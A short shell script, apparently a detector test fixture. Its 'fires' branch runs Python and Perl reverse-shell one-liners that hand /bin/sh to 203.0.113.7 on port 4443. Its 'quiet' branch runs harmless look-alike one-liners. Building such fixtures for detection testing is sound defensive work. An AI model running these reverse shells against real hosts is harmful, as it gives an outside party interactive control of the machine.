# The usual one-line reverse shell; nobody listens. Quiet: one-liners that ask for the host's name, and run a program.
case $1 in
fires)
  python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
  perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);if(connect(S,sockaddr_in(4443,inet_aton("203.0.113.7")))){open(STDIN,">&S");exec("/bin/sh -i");}'
  ;;
quiet)
  python3 -c 'import socket; print(socket.gethostname())'
  perl -e 'system("/bin/sh", "-c", "true")'
  ;;
esac
true
